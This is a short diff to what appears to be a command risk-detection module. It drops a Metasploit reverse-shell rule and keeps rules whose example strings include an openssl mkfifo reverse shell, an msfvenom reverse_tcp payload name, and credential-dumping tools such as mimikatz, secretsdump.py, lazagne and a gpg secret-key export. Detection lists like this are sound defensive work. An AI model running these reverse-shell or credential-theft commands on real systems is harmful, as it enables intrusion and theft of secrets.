@@ -236,8 +236,5 @@ RULES = (
         lambda r: "s_client" in r.operands and _feeds_shell(r),
         "mkfifo p; sh -i < p | openssl s_client -connect h:1 > p",
     ),
-    RiskRule(
-        "reverse-shell", "msfvenom msfconsole", lambda r: not is_help(r), "msfvenom -p linux/x64/shell_reverse_tcp"
-    ),
     RiskRule("credentials", "gpg security mimikatz secretsdump.py lazagne", _reveals, "gpg --export-secret-keys me"),
 )
